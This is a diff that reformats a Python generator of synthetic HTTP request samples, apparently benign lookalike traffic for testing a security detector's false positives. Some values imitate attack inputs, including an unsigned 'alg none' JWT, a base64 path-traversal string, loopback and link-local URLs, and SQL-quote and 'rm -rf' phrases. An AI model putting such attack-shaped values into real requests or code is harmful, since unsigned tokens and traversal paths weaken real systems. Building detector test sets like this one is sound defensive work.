-            N.append(B(u, "query", param=R.choice(["url", "u", "target"]), ep=R.choice(["/out", "/api/preview/link", "/share"])))
+            N.append(
+                B(
+                    u,
+                    "query",
+                    param=R.choice(["url", "u", "target"]),
+                    ep=R.choice(["/out", "/api/preview/link", "/share"]),
+                )
+            )
     H += [
-        B("http://localhost:3000/auth/callback", "json", ep="/api/oauth/apps/88/redirects", doc={"redirect_uris": [MARK, "https://app.example.com/auth/callback"]}),
+        B(
+            "http://localhost:3000/auth/callback",
+            "json",
+            ep="/api/oauth/apps/88/redirects",
+            doc={"redirect_uris": [MARK, "https://app.example.com/auth/callback"]},
+        ),
         B("http://127.0.0.1:8080/webhook", "json", param="url", ep="/api/dev/webhooks/test"),
         B("http://localhost:5173/", "form", param="allowed_origin", ep="/settings/developer"),
         B("http://[::1]:8000/healthz", "json", param="healthcheckUrl", ep="/api/dev/services"),
@@ -2472,8 +4484,12 @@ def gen_urls():
         B("file:///Users/ana/Projects/site/index.html", "json", ep="/api/editor/recent", doc={"recent": [MARK]}),
         B("https://example.com/?q=<tag>&page=2", "json", param="url", ep="/api/bookmarks"),
         B("http://intranet/wiki/Onboarding", "form", param="homepage", ep="/settings/browser"),
-        B("https://login.example.com/oauth2/authorize?client_id=web&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&response_type=code&scope=openid%20profile&state=x8Fq",
-          "query", param="continue", ep="/sso/start"),
+        B(
+            "https://login.example.com/oauth2/authorize?client_id=web&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&response_type=code&scope=openid%20profile&state=x8Fq",
+            "query",
+            param="continue",
+            ep="/sso/start",
+        ),
         B("/\u00fcber-uns", "query", param="next", ep="/login"),
         B("https://xn--bcher-kva.example/katalog", "json", param="url"),
         B("http://169.254.10.20:8080/printer/status", "json", param="deviceUrl", ep="/api/office/devices"),
@@ -2493,116 +4509,460 @@ def _png_b64(n):
 def gen_base64():
     H, N = [], []
     for i in range(14):
-        N.append(B("Bearer " + fake_jwt({"scope": R.choice(["read", "read write", "orders:read"]), "aud": "api.example.com"}, alg=R.choice(["HS256", "RS256"])),
-                   "header", hdr="Authorization", style="api", ep=R.choice(["/api/v1/me", "/api/v2/orders", "/api/projects"])))
+        N.append(
+            B(
+                "Bearer "
+                + fake_jwt(
+                    {"scope": R.choice(["read", "read write", "orders:read"]), "aud": "api.example.com"},
+                    alg=R.choice(["HS256", "RS256"]),
+                ),
+                "header",
+                hdr="Authorization",
+                style="api",
+                ep=R.choice(["/api/v1/me", "/api/v2/orders", "/api/projects"]),
+            )
+        )
     for i in range(8):
-        N.append(B(_png_b64(R.randint(60, 180)), "json", ep="/api/v1/attachments",
-                   doc={"filename": "image-%d.png" % i, "contentType": "image/png", "data": MARK}))
+        N.append(
+            B(
+                _png_b64(R.randint(60, 180)),
+                "json",
+                ep="/api/v1/attachments",
+                doc={"filename": "image-%d.png" % i, "contentType": "image/png", "data": MARK},
+            )
+        )
     for i in range(8):
         N.append(B("data:image/png;base64," + _png_b64(R.randint(40, 120)), "json", param="avatar", ep="/api/profile"))
     for i in range(8):
-        cur = base64.b64encode(compact({"id": R.randint(1000, 99999), "ts": 1765000000 + R.randint(0, 99999)}).encode()).decode()
-        N.append(B(cur, "query", param=R.choice(["cursor", "after", "page_token"]), ep=R.choice(["/api/v1/events", "/api/v2/orders", "/api/feed"])))
+        cur = base64.b64encode(
+            compact({"id": R.randint(1000, 99999), "ts": 1765000000 + R.randint(0, 99999)}).encode()
+        ).decode()
+        N.append(
+            B(
+                cur,
+                "query",
+                param=R.choice(["cursor", "after", "page_token"]),
+                ep=R.choice(["/api/v1/events", "/api/v2/orders", "/api/feed"]),
+            )
+        )
     for i in range(6):
         user = R.choice(["alice", "build-bot", "reports", "jenkins", "grafana", "backup"])
-        N.append(B("Basic " + base64.b64encode(("%s:%s" % (user, rand_alnum(16))).encode()).decode(), "header", hdr="Authorization", style="api",
-                   ep="/api/v1/export"))
+        N.append(
+            B(
+                "Basic " + base64.b64encode(("%s:%s" % (user, rand_alnum(16))).encode()).decode(),
+                "header",
+                hdr="Authorization",
+                style="api",
+                ep="/api/v1/export",
+            )
+        )
     for i in range(6):
-        N.append(B(base64.b64encode(R.randbytes(R.choice([16, 24, 32, 48]))).decode(), "json", param=R.choice(["nonce", "salt", "iv", "challenge"]),
-                   ep="/api/auth/webauthn/begin"))
+        N.append(
+            B(
+                base64.b64encode(R.randbytes(R.choice([16, 24, 32, 48]))).decode(),
+                "json",
+                param=R.choice(["nonce", "salt", "iv", "challenge"]),
+                ep="/api/auth/webauthn/begin",
+            )
+        )
     for i in range(6):
-        cd = compact({"type": "webauthn.get", "challenge": b64u(R.randbytes(32)), "origin": "https://app.example.com", "crossOrigin": False})
-        N.append(B(b64u(cd.encode()), "json", ep="/api/auth/webauthn/finish",
-                   doc={"id": b64u(R.randbytes(16)), "response": {"clientDataJSON": MARK, "authenticatorData": b64u(R.randbytes(37)), "signature": b64u(R.randbytes(70))}}))
+        cd = compact(
+            {
+                "type": "webauthn.get",
+                "challenge": b64u(R.randbytes(32)),
+                "origin": "https://app.example.com",
+                "crossOrigin": False,
+            }
+        )
+        N.append(
+            B(
+                b64u(cd.encode()),
+                "json",
+                ep="/api/auth/webauthn/finish",
+                doc={
+                    "id": b64u(R.randbytes(16)),
+                    "response": {
+                        "clientDataJSON": MARK,
+                        "authenticatorData": b64u(R.randbytes(37)),
+                        "signature": b64u(R.randbytes(70)),
+                    },
+                },
+            )
+        )
     for i in range(5):
-        N.append(B(base64.b64encode(R.randbytes(R.randint(120, 300))).decode(), "json", param="ciphertext", ep="/api/vault/secrets"))
-    saml = ('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_%s" Version="2.0" '
-            'IssueInstant="2026-12-07T22:58:11Z" Destination="https://app.example.com/saml/acs"><saml:Issuer>https://idp.example.org</saml:Issuer>'
-            '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status><saml:Assertion ID="_%s">'
-            '<saml:Subject><saml:NameID>ana.silva@example.com</saml:NameID></saml:Subject></saml:Assertion></samlp:Response>') % (rand_hex(32), rand_hex(32))
+        N.append(
+            B(
+                base64.b64encode(R.randbytes(R.randint(120, 300))).decode(),
+                "json",
+                param="ciphertext",
+                ep="/api/vault/secrets",
+            )
+        )
+    saml = (
+        '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_%s" Version="2.0" '
+        'IssueInstant="2026-12-07T22:58:11Z" Destination="https://app.example.com/saml/acs"><saml:Issuer>https://idp.example.org</saml:Issuer>'
+        '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status><saml:Assertion ID="_%s">'
+        "<saml:Subject><saml:NameID>ana.silva@example.com</saml:NameID></saml:Subject></saml:Assertion></samlp:Response>"
+    ) % (rand_hex(32), rand_hex(32))
     H += [
-        B(base64.b64encode(saml.encode()).decode(), "form", ep="/saml/acs", fields=[("SAMLResponse", MARK), ("RelayState", "/dashboard")]),
-        B("ssh-ed25519 " + base64.b64encode(b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00 " + R.randbytes(32)).decode() + " ana@laptop", "json",
-          param="publicKey", ep="/api/user/keys"),
-        B("-----BEGIN PUBLIC KEY-----\n" + "\n".join(base64.b64encode(R.randbytes(270)).decode()[i:i + 64] for i in range(0, 360, 64)) + "\n-----END PUBLIC KEY-----\n",
-          "json", param="pem", ep="/api/integrations/keys"),
-        B(base64.b64encode(b"<html><body><h1>Your order has shipped</h1><p>Track it <a href=\"https://shop.example.com/t/1042\">here</a>.</p></body></html>").decode(),
-          "json", ep="/api/mail/templates", doc={"name": "shipped", "htmlBase64": MARK}),
-        B(base64.b64encode(b"SELECT id, email FROM customers WHERE created_at > now() - interval '1 day';").decode(), "json", param="queryB64",
-          ep="/api/analytics/saved"),
-        B(base64.b64encode(b"#!/bin/sh\necho 'hello from cloud-init'\napt-get update -y\n").decode(), "json", param="userData", ep="/api/v1/instances"),
-        B(b64u(compact({"alg": "none"}).encode()) + "." + b64u(compact({"preview": True, "doc": 42}).encode()) + ".", "query", param="preview_token",
-          ep="/docs/preview"),
-        B("eyJfcGVybWFuZW50Ijp0cnVlLCJ1c2VyX2lkIjo0Mn0.Z1S4dw." + b64u(R.randbytes(20)), "cookie", ck="session", ep="/dashboard"),
-        B(base64.b64encode(compact({"flags": {"newCheckout": True, "betaSearch": False}, "v": 3}).encode()).decode(), "cookie", ck="ff", ep="/"),
+        B(
+            base64.b64encode(saml.encode()).decode(),
+            "form",
+            ep="/saml/acs",
+            fields=[("SAMLResponse", MARK), ("RelayState", "/dashboard")],
+        ),
+        B(
+            "ssh-ed25519 "
+            + base64.b64encode(b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00 " + R.randbytes(32)).decode()
+            + " ana@laptop",
+            "json",
+            param="publicKey",
+            ep="/api/user/keys",
+        ),
+        B(
+            "-----BEGIN PUBLIC KEY-----\n"
+            + "\n".join(base64.b64encode(R.randbytes(270)).decode()[i : i + 64] for i in range(0, 360, 64))
+            + "\n-----END PUBLIC KEY-----\n",
+            "json",
+            param="pem",
+            ep="/api/integrations/keys",
+        ),
+        B(
+            base64.b64encode(
+                b'<html><body><h1>Your order has shipped</h1><p>Track it <a href="https://shop.example.com/t/1042">here</a>.</p></body></html>'
+            ).decode(),
+            "json",
+            ep="/api/mail/templates",
+            doc={"name": "shipped", "htmlBase64": MARK},
+        ),
+        B(
+            base64.b64encode(b"SELECT id, email FROM customers WHERE created_at > now() - interval '1 day';").decode(),
+            "json",
+            param="queryB64",
+            ep="/api/analytics/saved",
+        ),
+        B(
+            base64.b64encode(b"#!/bin/sh\necho 'hello from cloud-init'\napt-get update -y\n").decode(),
+            "json",
+            param="userData",
+            ep="/api/v1/instances",
+        ),
+        B(
+            b64u(compact({"alg": "none"}).encode()) + "." + b64u(compact({"preview": True, "doc": 42}).encode()) + ".",
+            "query",
+            param="preview_token",
+            ep="/docs/preview",
+        ),
+        B(
+            "eyJfcGVybWFuZW50Ijp0cnVlLCJ1c2VyX2lkIjo0Mn0.Z1S4dw." + b64u(R.randbytes(20)),
+            "cookie",
+            ck="session",
+            ep="/dashboard",
+        ),
+        B(
+            base64.b64encode(compact({"flags": {"newCheckout": True, "betaSearch": False}, "v": 3}).encode()).decode(),
+            "cookie",
+            ck="ff",
+            ep="/",
+        ),
         B(base64.b64encode(b"../../shared/template.docx").decode(), "query", param="ref", ep="/api/v1/files"),
-        B(base64.b64encode(b"apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\n").decode(), "json", param="manifest", ep="/api/k8s/apply"),
-        B(base64.b64encode("${HOME}/.config/app/settings.json".encode()).decode(), "json", param="pathB64", ep="/api/sync"),
-        B("data:image/svg+xml;base64," + base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><rect width="8" height="8" fill="#e53935"/></svg>').decode(),
-          "json", param="icon", ep="/api/labels"),
-        B("Negotiate YIIGhgYGKwYBBQUCoIIGejCCBnagMDAuBgkqhkiC9xIBAgIGCSqGSIb3EgECAgYKKwYBBAGCNwICHgYKKwYBBAGCNwICCqKCBkAEggY8YIIGOAYJKoZIhvcSAQICAQBuggYnMIIG" + rand_alnum(40),
-          "header", hdr="Authorization", ep="/intranet/"),
-        B(base64.b64encode(R.randbytes(90)).decode().replace("+", "-").replace("/", "_"), "header", hdr="X-Client-Data", ep="/"),
+        B(
+            base64.b64encode(b"apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\n").decode(),
+            "json",
+            param="manifest",
+            ep="/api/k8s/apply",
+        ),
+        B(
+            base64.b64encode("${HOME}/.config/app/settings.json".encode()).decode(),
+            "json",
+            param="pathB64",
+            ep="/api/sync",
+        ),
+        B(
+            "data:image/svg+xml;base64,"
+            + base64.b64encode(
+                b'<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><rect width="8" height="8" fill="#e53935"/></svg>'
+            ).decode(),
+            "json",
+            param="icon",
+            ep="/api/labels",
+        ),
+        B(
+            "Negotiate YIIGhgYGKwYBBQUCoIIGejCCBnagMDAuBgkqhkiC9xIBAgIGCSqGSIb3EgECAgYKKwYBBAGCNwICHgYKKwYBBAGCNwICCqKCBkAEggY8YIIGOAYJKoZIhvcSAQICAQBuggYnMIIG"
+            + rand_alnum(40),
+            "header",
+            hdr="Authorization",
+            ep="/intranet/",
+        ),
+        B(
+            base64.b64encode(R.randbytes(90)).decode().replace("+", "-").replace("/", "_"),
+            "header",
+            hdr="X-Client-Data",
+            ep="/",
+        ),
         B("AQICAHh" + base64.b64encode(R.randbytes(150)).decode(), "json", param="encryptedKey", ep="/api/kms/decrypt"),
-        B(base64.b64encode(b"id,name\n1,<b>bold</b>\n2,Tom & Jerry\n").decode(), "json", ep="/api/v1/attachments",
-          doc={"filename": "names.csv", "contentType": "text/csv", "data": MARK}),
-        B(b64u(compact({"iss": "https://accounts.example.com", "nonce": rand_hex(16)}).encode()), "query", param="state", ep="/auth/callback"),
-        B("sha256-" + base64.b64encode(hashlib.sha256(b"console.log('ok')").digest()).decode(), "json", param="integrity", ep="/api/assets"),
-        B(base64.b64encode(b"{{ user.first_name }}, your code is {{ code }}").decode(), "json", param="bodyB64", ep="/api/sms/templates"),
-        B(base64.b64encode(b"\x0a\x07example\x12\x04\x08\x01\x10\x02" + R.randbytes(20)).decode(), "json", param="protoPayload", ep="/api/v1/ingest"),
-        B("v=1;" + base64.b64encode(R.randbytes(24)).decode() + "==;exp=1765209600", "cookie", ck="edge_auth", ep="/video/"),
-        B(base64.b64encode(b"user=ana&role=viewer&exp=1765209600").decode(), "query", param="sig_data", ep="/share/doc"),
-        B(b64u(compact({"alg": "ES256", "typ": "dpop+jwt"}).encode()) + "." + b64u(compact({"htm": "POST", "htu": "https://api.example.com/token", "iat": 1765100000}).encode()) + "." + b64u(R.randbytes(64)),
-          "header", hdr="DPoP", ep="/token", style="api"),
+        B(
+            base64.b64encode(b"id,name\n1,<b>bold</b>\n2,Tom & Jerry\n").decode(),
+            "json",
+            ep="/api/v1/attachments",
+            doc={"filename": "names.csv", "contentType": "text/csv", "data": MARK},
+        ),
+        B(
+            b64u(compact({"iss": "https://accounts.example.com", "nonce": rand_hex(16)}).encode()),
+            "query",
+            param="state",
+            ep="/auth/callback",
+        ),
+        B(
+            "sha256-" + base64.b64encode(hashlib.sha256(b"console.log('ok')").digest()).decode(),
+            "json",
+            param="integrity",
+            ep="/api/assets",
+        ),
+        B(
+            base64.b64encode(b"{{ user.first_name }}, your code is {{ code }}").decode(),
+            "json",
+            param="bodyB64",
+            ep="/api/sms/templates",
+        ),
+        B(
+            base64.b64encode(b"\x0a\x07example\x12\x04\x08\x01\x10\x02" + R.randbytes(20)).decode(),
+            "json",
+            param="protoPayload",
+            ep="/api/v1/ingest",
+        ),
+        B(
+            "v=1;" + base64.b64encode(R.randbytes(24)).decode() + "==;exp=1765209600",
+            "cookie",
+            ck="edge_auth",
+            ep="/video/",
+        ),
+        B(
+            base64.b64encode(b"user=ana&role=viewer&exp=1765209600").decode(),
+            "query",
+            param="sig_data",
+            ep="/share/doc",
+        ),
+        B(
+            b64u(compact({"alg": "ES256", "typ": "dpop+jwt"}).encode())
+            + "."
+            + b64u(compact({"htm": "POST", "htu": "https://api.example.com/token", "iat": 1765100000}).encode())
+            + "."
+            + b64u(R.randbytes(64)),
+            "header",
+            hdr="DPoP",
+            ep="/token",
+            style="api",
+        ),
     ]
     return H, N
 
 
-FIRST = ["Ana", "Wei", "Priya", "Lukas", "Sofia", "Mateo", "Aisha", "Jonas", "Yuki", "Olga", "Liam", "Fatima", "Noah", "Chloé", "Søren",
-         "Zoë", "Mohammed", "Ines", "Kenji", "Marta"]
-LAST = ["Silva", "Li", "Patel", "Müller", "Rossi", "García", "Khan", "Berg", "Tanaka", "Ivanova", "Murphy", "Haddad", "Smith", "Dubois",
-        "Jørgensen", "O'Connor", "Nguyen", "Kowalski", "van der Berg", "Smith-Jones"]
-CITIES = [("Amsterdam", "1012 JS", "NL"), ("Berlin", "10115", "DE"), ("Lisbon", "1100-148", "PT"), ("Austin", "78701", "US"),
-          ("Toronto", "M5V 2T6", "CA"), ("Kraków", "31-001", "PL"), ("Osaka", "530-0001", "JP"), ("Dublin", "D02 X285", "IE"),
-          ("Lyon", "69002", "FR"), ("São Paulo", "01310-100", "BR")]
+FIRST = [
+    "Ana",
+    "Wei",
+    "Priya",
+    "Lukas",
+    "Sofia",
+    "Mateo",
+    "Aisha",
+    "Jonas",
+    "Yuki",
+    "Olga",
+    "Liam",
+    "Fatima",
+    "Noah",
+    "Chloé",
+    "Søren",
+    "Zoë",
+    "Mohammed",
+    "Ines",
+    "Kenji",
+    "Marta",
+]
+LAST = [
+    "Silva",
+    "Li",
+    "Patel",
+    "Müller",
+    "Rossi",
+    "García",
+    "Khan",
+    "Berg",
+    "Tanaka",
+    "Ivanova",
+    "Murphy",
+    "Haddad",
+    "Smith",
+    "Dubois",
+    "Jørgensen",
+    "O'Connor",
+    "Nguyen",
+    "Kowalski",
+    "van der Berg",
+    "Smith-Jones",
+]
+CITIES = [
+    ("Amsterdam", "1012 JS", "NL"),
+    ("Berlin", "10115", "DE"),
+    ("Lisbon", "1100-148", "PT"),
+    ("Austin", "78701", "US"),
+    ("Toronto", "M5V 2T6", "CA"),
+    ("Kraków", "31-001", "PL"),
+    ("Osaka", "530-0001", "JP"),
+    ("Dublin", "D02 X285", "IE"),
+    ("Lyon", "69002", "FR"),
+    ("São Paulo", "01310-100", "BR"),
+]
 
 
 def gen_api_json():
     H, N = [], []
     for i in range(14):
         c = R.choice(CITIES)
-        N.append(B(compact({"line1": "%d %s" % (R.randint(1, 240), R.choice(["Keizersgracht", "Main Street", "Rua Augusta", "Oak Avenue", "Rue de la République"])),
-                            "city": c[0], "postalCode": c[1], "country": c[2]}), "json", jobj=True, param="shippingAddress", ep="/api/v2/orders"))
+        N.append(
+            B(
+                compact(
+                    {
+                        "line1": "%d %s"
+                        % (
+                            R.randint(1, 240),
+                            R.choice(
+                                ["Keizersgracht", "Main Street", "Rua Augusta", "Oak Avenue", "Rue de la République"]
+                            ),
+                        ),
+                        "city": c[0],
+                        "postalCode": c[1],
+                        "country": c[2],
+                    }
+                ),
+                "json",
+                jobj=True,
+                param="shippingAddress",
+                ep="/api/v2/orders",
+            )
+        )
     for i in range(12):
-        items = [{"sku": "SKU-%05d" % R.randint(1, 99999), "qty": R.randint(1, 4), "price": round(R.uniform(2, 300), 2)} for _ in range(R.randint(1, 3))]
+        items = [
+            {"sku": "SKU-%05d" % R.randint(1, 99999), "qty": R.randint(1, 4), "price": round(R.uniform(2, 300), 2)}
+            for _ in range(R.randint(1, 3))
+        ]
         N.append(B(compact(items), "json", jobj=True, param="items", ep="/api/v2/cart"))
     for i in range(10):
-        prefs = {"theme": R.choice(["dark", "light", "system"]), "language": R.choice(["en", "de", "pt-BR", "ja"]),
-                 "notifications": {"email": R.choice([True, False]), "push": R.choice([True, False]), "digest": R.choice(["daily", "weekly", "never"])}}
+        prefs = {
+            "theme": R.choice(["dark", "light", "system"]),
+            "language": R.choice(["en", "de", "pt-BR", "ja"]),
+            "notifications": {
+                "email": R.choice([True, False]),
+                "push": R.choice([True, False]),
+                "digest": R.choice(["daily", "weekly", "never"]),
+            },
+        }
         N.append(B(compact(prefs), "json", jobj=True, param="preferences", ep="/api/users/me"))
     for i in range(10):
-        N.append(B("%s %s" % (R.choice(FIRST), R.choice(LAST)), "json", param=R.choice(["displayName", "fullName", "name"]), ep="/api/users/me"))
+        N.append(
+            B(
+                "%s %s" % (R.choice(FIRST), R.choice(LAST)),
+                "json",
+                param=R.choice(["displayName", "fullName", "name"]),
+                ep="/api/users/me",
+            )
+        )
     for i in range(8):
-        N.append(B(compact({"lat": round(R.uniform(-60, 70), 6), "lng": round(R.uniform(-170, 170), 6), "accuracy": R.randint(3, 60)}), "json", jobj=True,
-                   param="location", ep="/api/v1/checkins"))
+        N.append(
+            B(
+                compact(
+                    {
+                        "lat": round(R.uniform(-60, 70), 6),
+                        "lng": round(R.uniform(-170, 170), 6),
+                        "accuracy": R.randint(3, 60),
+                    }
+                ),
+                "json",
+                jobj=True,
+                param="location",
+                ep="/api/v1/checkins",
+            )
+        )
     H += [
-        B('[{"op":"replace","path":"/email","value":"ana@example.com"},{"op":"remove","path":"/nickname"}]', "json", jobj=True, ep="/api/users/88",
-          doc=MARK, method="PATCH", ctype="application/json-patch+json"),
-        B("$schema", "json_key", ep="/api/v1/forms", doc={KMARK: "https://json-schema.org/draft/2020-12/schema", "type": "object",
-                                                          "properties": {"email": {"type": "string", "format": "email"}}}),
-        B("$ref", "json_key", ep="/api/v1/forms", doc={"definitions": {"address": {"type": "object"}}, "properties": {"billing": {KMARK: "#/definitions/address"}}}),
-        B("@context", "json_key", ep="/api/v1/events", doc={KMARK: "https://schema.org", "@type": "Event", "name": "Winter meetup", "startDate": "2026-12-15T18:00"}),
-        B('{"@type":"Organization","name":"Northwind Traders","url":"https://northwind.test"}', "json", jobj=True, param="publisher", ep="/api/cms/pages"),
+        B(
+            '[{"op":"replace","path":"/email","value":"ana@example.com"},{"op":"remove","path":"/nickname"}]',
+            "json",
+            jobj=True,
+            ep="/api/users/88",
+            doc=MARK,
+            method="PATCH",
+            ctype="application/json-patch+json",
+        ),
+        B(
+            "$schema",
+            "json_key",
+            ep="/api/v1/forms",
+            doc={
+                KMARK: "https://json-schema.org/draft/2020-12/schema",
+                "type": "object",
+                "properties": {"email": {"type": "string", "format": "email"}},
+            },
+        ),
+        B(
+            "$ref",
+            "json_key",
+            ep="/api/v1/forms",
+            doc={
+                "definitions": {"address": {"type": "object"}},
+                "properties": {"billing": {KMARK: "#/definitions/address"}},
+            },
+        ),
+        B(
+            "@context",
+            "json_key",
+            ep="/api/v1/events",
+            doc={
+                KMARK: "https://schema.org",
+                "@type": "Event",
+                "name": "Winter meetup",
+                "startDate": "2026-12-15T18:00",
+            },
+        ),
+        B(
+            '{"@type":"Organization","name":"Northwind Traders","url":"https://northwind.test"}',
+            "json",
+            jobj=True,
+            param="publisher",
+            ep="/api/cms/pages",
+        ),
         B("filters[title][$containsi]", "query_key", kval="winter", ep="/api/articles"),
         B("filter[status][_eq]", "query_key", kval="published", ep="/items/posts"),
         B('{"where":{"price":{"gt":10}},"order":"price ASC","limit":20}', "query", param="filter", ep="/api/products"),
-        B('{"$in":["open","pending"]}', "json", jobj=True, ep="/api/v1/tickets/search", doc={"filter": {"status": MARK}, "limit": 50}),
-        B("status = Open AND assignee = currentUser() ORDER BY updated DESC", "json", param="jql", ep="/rest/api/3/search"),
+        B(
+            '{"$in":["open","pending"]}',
+            "json",
+            jobj=True,
+            ep="/api/v1/tickets/search",
+            doc={"filter": {"status": MARK}, "limit": 50},
+        ),
+        B(
+            "status = Open AND assignee = currentUser() ORDER BY updated DESC",
+            "json",
+            param="jql",
+            ep="/rest/api/3/search",
+        ),
         B("-created_at", "query", param="sort", ep="/api/v2/orders"),
-        B("SELECT count(*) FROM events WHERE type = 'signup'", "json", param="query", ep="/api/analytics/saved-queries"),
+        B(
+            "SELECT count(*) FROM events WHERE type = 'signup'",
+            "json",
+            param="query",
+            ep="/api/analytics/saved-queries",
+        ),
         B("npm run build && npm test", "json", param="command", ep="/api/ci/jobs"),
         B("backup.sh --full --target s3://acme-backups/nightly", "json", param="script", ep="/api/scheduler/tasks"),
-        B('{"and":[{"field":"country","op":"eq","value":"NL"},{"field":"age","op":"gte","value":18}]}', "json", jobj=True, param="rule", ep="/api/segments"),
+        B(
+            '{"and":[{"field":"country","op":"eq","value":"NL"},{"field":"age","op":"gte","value":18}]}',
+            "json",
+            jobj=True,
+            param="rule",
+            ep="/api/segments",
+        ),
         B("price * quantity - discount", "json", param="expression", ep="/api/sheets/columns"),
         B("../reports/2026", "json", param="prefix", ep="/api/storage/list"),
         B("<p>Welcome!</p>", "json", param="html", ep="/api/cms/blocks"),
@@ -2610,7 +4970,12 @@ def gen_api_json():
         B("exec-summary", "json", param="slug", ep="/api/cms/pages"),
         B("drop-off", "json", param="deliveryType", ep="/api/v2/orders"),
         B("system", "json", param="theme", ep="/api/users/me"),
-        B('{"query":"winter boots","filters":{"size":[42,43]},"sort":"price_asc"}', "json", param="savedSearch", ep="/api/users/me/searches"),
+        B(
+            '{"query":"winter boots","filters":{"size":[42,43]},"sort":"price_asc"}',
+            "json",
+            param="savedSearch",
+            ep="/api/users/me/searches",
+        ),
         B("x-forwarded-for", "json", param="clientIpHeader", ep="/api/settings/proxy"),
         B('{"cmd":"status","target":"printer-3"}', "json", param="message", ep="/api/devices/commands"),
     ]
@@ -2621,28 +4986,87 @@ def gen_forms():
     H, N = [], []
     for i in range(16):
         f, l = R.choice(FIRST), R.choice(LAST)
-        N.append(B("%s.%s%d@example.com" % (f.lower().replace("é", "e").replace("ø", "o").replace("ë", "e"), l.split()[0].lower().replace("'", "").replace("ü", "ue").replace("ø", "o"), R.randint(1, 99)),
-                   "form", ep="/signup", fields=[("name", "%s %s" % (f, l)), ("email", MARK), ("password", rand_alnum(14)), ("terms", "on")]))
+        N.append(
+            B(
+                "%s.%s%d@example.com"
+                % (
+                    f.lower().replace("é", "e").replace("ø", "o").replace("ë", "e"),
+                    l.split()[0].lower().replace("'", "").replace("ü", "ue").replace("ø", "o"),
+                    R.randint(1, 99),
+                ),
+                "form",
+                ep="/signup",
+                fields=[("name", "%s %s" % (f, l)), ("email", MARK), ("password", rand_alnum(14)), ("terms", "on")],
+            )
+        )
     for i in range(12):
         c = R.choice(CITIES)
-        N.append(B("%d %s" % (R.randint(1, 300), R.choice(["Herengracht", "Invalidenstraße", "Rua do Ouro", "Congress Ave", "Queen St W", "Floriańska"])),
-                   "form", ep="/checkout/address", fields=[("address1", MARK), ("city", c[0]), ("postcode", c[1]), ("country", c[2])]))
+        N.append(
+            B(
+                "%d %s"
+                % (
+                    R.randint(1, 300),
+                    R.choice(
+                        ["Herengracht", "Invalidenstraße", "Rua do Ouro", "Congress Ave", "Queen St W", "Floriańska"]
+                    ),
+                ),
+                "form",
+                ep="/checkout/address",
+                fields=[("address1", MARK), ("city", c[0]), ("postcode", c[1]), ("country", c[2])],
+            )
+        )
     for i in range(10):
-        N.append(B(R.choice(SENTENCES), "form", param=R.choice(["comment", "message", "notes", "feedback"]), ep=R.choice(["/contact", "/feedback", "/orders/notes"])))
+        N.append(
+            B(
+                R.choice(SENTENCES),
+                "form",
+                param=R.choice(["comment", "message", "notes", "feedback"]),
+                ep=R.choice(["/contact", "/feedback", "/orders/notes"]),
+            )
+        )
     for i in range(8):
-        N.append(B("+%d %d %d %04d" % (R.choice([31, 49, 351, 1, 44]), R.randint(10, 99), R.randint(100, 999), R.randint(0, 9999)), "form", param="phone",
-                   ep="/profile/update"))
+        N.append(
+            B(
+                "+%d %d %d %04d"
+                % (R.choice([31, 49, 351, 1, 44]), R.randint(10, 99), R.randint(100, 999), R.randint(0, 9999)),
+                "form",
+                param="phone",
+                ep="/profile/update",
+            )
+        )
     for i in range(8):
-        N.append(B("%s %s" % (R.choice(FIRST), R.choice(["Silva", "Li", "Patel", "Rossi", "Berg", "Tanaka"])), "form", param="cardholder", ep="/checkout/payment"))
+        N.append(
+            B(
+                "%s %s" % (R.choice(FIRST), R.choice(["Silva", "Li", "Patel", "Rossi", "Berg", "Tanaka"])),
+                "form",
+                param="cardholder",
+                ep="/checkout/payment",
+            )
+        )
     H += [
-        B("O'Connor", "form", ep="/signup", fields=[("first_name", "Siobhán"), ("last_name", MARK), ("email", "s.oconnor@example.ie")]),
+        B(
+            "O'Connor",
+            "form",
+            ep="/signup",
+            fields=[("first_name", "Siobhán"), ("last_name", MARK), ("email", "s.oconnor@example.ie")],
+        ),
         B("Tr0ub4dor&3", "form", ep="/login", fields=[("username", "lukas.berg"), ("password", MARK)]),
-        B("P@ss'w0rd;--2026", "form", ep="/account/password", fields=[("current", "old-Passw0rd!"), ("new", MARK), ("confirm", MARK)]),
+        B(
+            "P@ss'w0rd;--2026",
+            "form",
+            ep="/account/password",
+            fields=[("current", "old-Passw0rd!"), ("new", MARK), ("confirm", MARK)],
+        ),
         B("AT&T Services, Inc.", "form", param="company", ep="/signup/business"),
         B("Apt #4; Building B", "form", param="address2", ep="/checkout/address"),
         B("Order #1042 -- please hold until Monday", "form", param="notes", ep="/orders/notes"),
         B("Select the 'Express' option if available", "form", param="delivery_instructions", ep="/checkout/shipping"),
-        B("Please drop off at the back door (side entrance)", "form", param="delivery_instructions", ep="/checkout/shipping"),
+        B(
+            "Please drop off at the back door (side entrance)",
+            "form",
+            param="delivery_instructions",
+            ep="/checkout/shipping",
+        ),
         B("1=1 in the report filter doesn't seem to work?", "form", param="message", ep="/support/ticket"),
         B("Union Street 5, <Unit 3>", "form", param="address1", ep="/checkout/address"),
         B("We use <script> tags in our CMS, will that break the import?", "form", param="question", ep="/contact"),
@@ -2658,8 +5082,22 @@ def gen_forms():
         B("<3 thanks team!", "form", param="comment", ep="/feedback"),
         B("DROP-OFF @ 5pm; ring twice", "form", param="notes", ep="/orders/notes"),
         B("rm -rf old backups please", "form", param="message", ep="/support/ticket"),
-        B("user[name]", "form", key=True, kval="Ana", ep="/users/42", fields=[("_method", "patch"), (KMARK, "Ana"), ("user[email]", "ana@example.com")]),
-        B("order[items][0][qty]", "form", key=True, kval="2", ep="/cart/update", fields=[(KMARK, "2"), ("order[items][0][sku]", "A-1001")]),
+        B(
+            "user[name]",
+            "form",
+            key=True,
